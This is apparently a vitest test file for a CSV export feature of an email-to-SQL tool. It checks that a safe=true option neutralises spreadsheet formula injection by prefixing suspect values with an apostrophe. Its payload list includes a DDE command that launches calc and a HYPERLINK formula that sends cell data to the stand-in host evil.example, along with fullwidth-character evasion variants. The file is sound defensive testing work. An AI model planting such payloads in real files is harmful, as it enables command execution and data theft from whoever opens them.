import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { startDemo } from '../../support/demo.ts'

const FORMULAS = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\uff1dHYPERLINK("http://x")',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
]
/** What no spreadsheet takes for one. */
const HARMLESS = ['|calc', '%0A=1', 'a=1']

let place: string
beforeEach(() => {
  place = mkdtempSync(join(tmpdir(), 'gmailsql-export-'))
})
afterEach(() => rmSync(place, { recursive: true, force: true }))

async function exported(options: string): Promise<string[]> {
  await using demo = await startDemo({ messages: 0 })
  for (const subject of [...FORMULAS, ...HARMLESS]) {
    const encoded = `=?UTF-8?B?${Buffer.from(subject).toString('base64')}?=`
    demo.gmaild.account.append({ raw: `Subject: ${encoded}\r\n\r\n`, labels: ['\\Inbox'] })
  }
  const db = await demo.open()
  const file = join(place, 'x.csv')
  await db.query(`SELECT Subject INTO 'csv://${file}${options}' FROM Inbox ORDER BY Id`)
  return readFileSync(file, 'utf8').split('\r\n').slice(1, -1)
}

const field = (text: string) => (/[",]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text)

test('a subject that looks like a formula is exact by default', async () => {
  expect(await exported('')).toEqual([...FORMULAS, ...HARMLESS].map(field))
})

test('with safe=true it begins with an apostrophe, which a spreadsheet takes for text', async () => {
  expect(await exported(';safe=true')).toEqual([...FORMULAS.map(text => `'${text}`), ...HARMLESS].map(field))
})
